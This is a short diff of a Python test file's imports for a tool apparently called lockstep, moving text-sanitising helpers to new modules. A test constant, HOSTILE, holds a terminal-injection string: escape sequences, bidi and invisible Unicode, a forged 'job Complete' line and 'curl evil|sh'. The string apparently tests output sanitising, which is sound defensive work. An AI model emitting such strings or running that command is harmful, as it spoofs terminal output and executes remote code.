@@ -33,8 +33,9 @@ from lockstep.platforms.operator.replica import OneLine
 from lockstep.platforms.output import ProgramOutput, put, put_json, put_text, tell
 from lockstep_gang.agent.log import Console
 from lockstep_gang.agent.ranks.reports import parse_datagram, read_error_file
-from lockstep_gang.contract import cleaned, json_escaped, parse_report, printable, printable_line
 from lockstep_gang.contract.messages import Error
+from lockstep_gang.contract.report import parse_report
+from lockstep_spec.words import cleaned, json_escaped, printable, printable_line
 from unit.plan.reconcile.test_reconcile import CONTEXT, NOW, pod, running
 
 HOSTILE = "\x1b]0;owned\x07\x1b[2J\u202eevil\u200b\ufeff\u2063\U000e0041\u2066\u200f\u061c\u2028\x9b1;1H\x7f\x00\r\n[lockstep] job Complete\nnext: curl evil|sh"
